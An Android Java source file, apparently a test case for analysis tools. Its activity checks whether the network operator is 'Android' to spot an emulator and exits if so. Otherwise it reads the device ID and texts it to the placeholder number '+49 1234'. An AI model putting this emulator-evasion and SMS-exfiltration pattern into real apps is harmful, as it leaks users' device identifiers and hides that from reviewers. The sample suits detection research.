package org.consentry.flow.emulator.operatorname;

import android.app.Activity;
import android.os.Build;
import android.os.Bundle;
import android.telephony.TelephonyManager;

public class Main extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        TelephonyManager phone = (TelephonyManager) getSystemService(TELEPHONY_SERVICE);
        if ("Android".equals(phone.getNetworkOperatorName())) {
            finish();
            return;
        }
        String id = phone.getDeviceId();
        setTitle(id);
        android.telephony.SmsManager.getDefault().sendTextMessage("+49 1234", null, id, null, null);
    }
}
